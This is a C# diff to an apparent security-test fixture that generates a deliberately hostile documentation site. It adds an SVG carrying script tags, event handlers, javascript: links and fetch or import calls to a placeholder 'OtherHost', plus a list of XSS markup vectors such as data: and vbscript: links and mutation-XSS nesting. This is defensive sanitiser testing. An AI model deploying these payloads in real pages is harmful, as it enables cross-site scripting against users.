@@ -20,6 +20,22 @@ public static class HostileSite
 
     private const int PayloadsPerRecord = 20;
 
+    /// <summary>The one image of the hostile site, shown as every screenshot: an SVG that tries to run and to call out when opened on its own.</summary>
+    public const string HostileSvg = "images/hostile.svg";
+
+    private static readonly string HostileSvgText = $$"""
+        <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="240" height="80" onload="alert('svg onload')">
+          <script>alert('svg script'); fetch('http://{{OtherHost}}/svg-script');</script>
+          <script xlink:href="http://{{OtherHost}}/svg.js"/>
+          <style>@import url(http://{{OtherHost}}/svg.css);</style>
+          <rect width="240" height="80" fill="#ddd" onmouseover="alert('svg handler')"/>
+          <image href="http://{{OtherHost}}/svg-image.png" width="10" height="10"/>
+          <foreignObject width="240" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert('svg iframe')"/></foreignObject>
+          <a href="javascript:alert('svg link')"><text x="10" y="60">click</text></a>
+          <a><set attributeName="href" to="javascript:alert('svg set')"/><text x="120" y="60">set</text></a>
+        </svg>
+        """;
+
     /// <summary>Vectors the list does not have: Markdown links and autolinks, and what a Mermaid label or directive can hold.</summary>
     private static readonly string[] MarkupVectors =
     [
@@ -38,7 +54,8 @@ public static class HostileSite
         "[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
         "[link](vbscript:msgbox(1))",
         "<javascript:alert(1)>",
-        "![image](javascript:alert(1))",
+        // An image with a javascript: (or any non-http) address is refused by check (SG0805, RecordFilesCheckTests), so it
+        // cannot reach a page; its link form above still does.
         "[ref][r]\n\n[r]: javascript:alert(1)",
         "<details open ontoggle=alert(1)>",
         "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
@@ -101,6 +118,8 @@ public static class HostileSite
         var chapter = Path.Combine(content, "experiments", "02-controllers");
         Directory.CreateDirectory(chapter);
         File.WriteAllText(Path.Combine(content, "site.yaml"), SiteYaml());
+        Directory.CreateDirectory(Path.Combine(chapter, "images"));
+        File.WriteAllText(Path.Combine(chapter, HostileSvg), HostileSvgText);
         var groups = Payloads.Chunk(PayloadsPerRecord).ToList();
         for (var i = 0; i < groups.Count; i++)
         {
@@ -147,6 +166,7 @@ public static class HostileSite
         var prose = string.Join("\n\n", payloads.Select((p, i) => $"{p}\n\n[{p}](#p{i}) `{p}`"));
         var code = string.Join("\n", payloads);
         Replace(record, prose, code);
+        ShowAsEveryScreenshot(record, HostileSvg);
         record.Children[new YamlScalarNode("next_steps")] = new YamlMappingNode(
             "experiments", new YamlSequenceNode(
                 new YamlMappingNode(
@@ -238,6 +258,21 @@ public static class HostileSite
                 }
 
                 break;
+        }
+    }
+
+    /// <summary>Points every screenshot's <c>file</c> at <paramref name="file"/>.</summary>
+    private static void ShowAsEveryScreenshot(YamlNode node, string file)
+    {
+        foreach (var child in node.AllNodes.OfType<YamlMappingNode>().ToList())
+        {
+            if (child.Children.TryGetValue(new YamlScalarNode("screenshots"), out var list))
+            {
+                foreach (var shot in ((YamlSequenceNode)list).Cast<YamlMappingNode>())
+                {
+                    shot.Children[new YamlScalarNode("file")] = new YamlScalarNode(file);
+                }
+            }
         }
     }
 
